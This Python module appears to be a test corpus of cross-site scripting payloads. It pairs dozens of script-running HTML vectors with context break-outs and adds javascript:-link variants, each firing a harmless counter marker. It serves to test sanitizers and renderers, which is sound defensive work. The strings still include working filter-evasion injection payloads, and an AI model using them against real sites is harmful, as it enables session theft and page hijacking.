"""Texts that would run a script if a page showed them carelessly; each reports its own number when it runs.

Every vector is put behind every way out of where a text may stand: out of an attribute, a comment, a
title, a text area. Links run only when followed; they are found by where they lead to.
"""

from __future__ import annotations

WAYS_OUT = (
    "",
    '">',
    "'>",
    "x onmouseover=x>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</noscript>",
    "-->",
    "]]>",
    "`>",
    "\\u0022>",
    "&quot;>",
)

RUN = "top.hits.push({n})"
VECTORS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script/x>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src=x:x onerror='{run}'>",
    "<image src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}//",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<video><source onerror={run}></video>",
    "<video src=x onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<a href=x autofocus tabindex=1 onfocus={run}>x</a>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe onload={run}></iframe>",
    "<object data=x onerror={run}></object>",
    "<object data='data:text/html,<script>{run}</script>'></object>",
    "<embed src='javascript:{run}'>",
    "<link rel=stylesheet href=x onerror={run}>",
    "<style onload={run}></style>",
    "<body onload={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href='javascript:{run}//'>",
    "<template><script>{run}</script></template><img src=x onerror={run}>",
)

LINKS = (
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x]( javascript:{run} )",
    "[x](<javascript:{run}>)",
    "[x](java&#115;cript:{run})",
    "[x](java&Tab;script:{run})",
    "[x](&#x6A;avascript&colon;{run})",
    "[x](vbscript:{run})",
    "[x](data:text/html;base64,PHNjcmlwdD50b3AuaGl0cy5wdXNoKDEpPC9zY3JpcHQ+)",
    "![x](javascript:{run})",
    "![x](x 'onerror={run}')",
    '![x" onerror="{run}](x)',
    "<javascript:{run}>",
    "[x]: javascript:{run}\n\n[x]",
    "[x](https://example.org 'x\" onmouseover=\"{run}')",
    "<a href='javascript:{run}'>x</a>",
    "<a href='&#106;avascript:{run}'>x</a>",
    "<a href=' \x09javascript:{run}'>x</a>",
    "<svg><a xlink:href='javascript:{run}'><text>x</text></a></svg>",
    "<form action='javascript:{run}'><button>x</button></form>",
    "<button formaction='javascript:{run}'>x</button>",
)


def payloads() -> list[str]:
    """Return all of them; the number that each reports is its place in the list."""
    shapes = [way_out + vector for vector in VECTORS for way_out in WAYS_OUT] + list(LINKS)
    return [shape.replace("{run}", RUN.format(n=n)) for n, shape in enumerate(shapes)]
